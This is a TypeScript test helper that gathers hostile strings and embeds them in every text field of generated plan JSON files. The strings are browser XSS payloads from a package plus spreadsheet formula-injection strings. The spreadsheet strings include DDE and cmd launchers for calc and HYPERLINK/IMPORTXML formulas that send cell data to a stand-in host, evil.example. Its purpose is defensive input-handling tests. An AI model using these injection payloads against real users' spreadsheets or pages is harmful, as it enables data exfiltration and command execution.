// Texts that others keep to try what pages do with text, and plans that have them in every field.

import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { naughty } from "./fields";

const root = (path: string) => fileURLToPath(new URL(`../../../${path}`, import.meta.url));

/** BRS-KB's list for browsers, of PyPI. */
const forBrowsers = (): string[] => {
  const program = "import json; from brs_kb.payloads_compat import get_all_payloads as all; print(json.dumps(sorted({one.payload for one in all().values()})))";
  return JSON.parse(execFileSync(root(".tools/python/bin/python"), ["-c", program], { encoding: "utf8", maxBuffer: 1 << 24 }));
};

/** For spreadsheets no list is kept at npm or PyPI: what OWASP says a cell may begin with, and what then follows. By our own hand. */
const forSpreadsheets = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '";="', "',="].flatMap((begin) =>
  ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"x")', 'IMPORTXML("https://evil.example","//a")', "DDE(\"cmd\";\"/C calc\";\"x\")"].map((end) => begin + end),
);

/** All of them, each once. */
export const hostile = (): string[] => [...new Set([...forBrowsers(), ...forSpreadsheets, ...naughty])].filter((text) => text.isWellFormed() && text.trim());

const schema = JSON.parse(readFileSync(root("assets/plan.schema.json"), "utf8"));
const everyField = readFileSync(root("tests/fixtures/plans/v0001.json"), "utf8");
const counter = new Intl.Segmenter("zh", { granularity: "grapheme" });
const count = (text: string) => [...counter.segment(text)].length;

/** Plans whose every text field has texts of the list in it, as many plans as it takes for each text to be there once. */
export function hostilePlans(texts: string[]): string[] {
  const left = texts.map((text) => ({ text, length: count(text) })).sort((one, other) => one.length - other.length);
  /** A text that fits; of a long field several, a line each. */
  const next = (max: number): string => {
    const lines: string[] = [];
    // The longest that fits: what is short is left for short fields.
    for (let room = max; room > 0 && (max >= 600 || lines.length === 0); ) {
      const at = left.findLastIndex(({ length }) => length <= room);
      if (at < 0) break;
      const [{ text, length }] = left.splice(at, 1) as [(typeof left)[number]];
      lines.push(text);
      room -= length + 1;
    }
    return lines.length > 0 ? lines.join("\n") : "<b>";
  };
  const plant = (node: any, tree: any): any => {
    const max = /^#\/\$defs\/Text(\d+)$/.exec(node?.$ref ?? "")?.[1];
    if (max) return next(Number(max));
    if (node?.$ref) return plant(node.$ref.slice(2).split("/").reduce((at: any, key: string) => at[key], schema), tree);
    for (const way of [...(node?.anyOf ?? []), ...(node?.oneOf ?? []), ...(node?.allOf ?? [])]) tree = plant(way, tree);
    if (Array.isArray(tree)) return node?.items ? tree.map((one) => plant(node.items, one)) : tree;
    if (typeof tree !== "object" || tree === null) return tree;
    const others = [...Object.values(node?.patternProperties ?? {}), node?.additionalProperties].filter((one) => typeof one === "object");
    return Object.fromEntries(
      Object.entries(tree).map(([key, value]) => [key, (node?.properties?.[key] ? [node.properties[key]] : others).reduce((value, one) => plant(one, value), value)]),
    );
  };
  const plans: string[] = [];
  while (left.length > 0) {
    const file = JSON.parse(everyField);
    const before = left.length;
    file.plan = plant(schema.properties.plan, file.plan);
    if (left.length === before) throw new Error(`fits nowhere: ${left[0]!.text}`);
    Object.assign(file.plan, { id: `hostile_${plans.length}`, archived: false, report: { ...file.plan.report, left_out: [] } });
    Object.assign(file.plan.funnel, { runs: 100, seed: 1 });
    plans.push(JSON.stringify(file));
  }
  return plans;
}
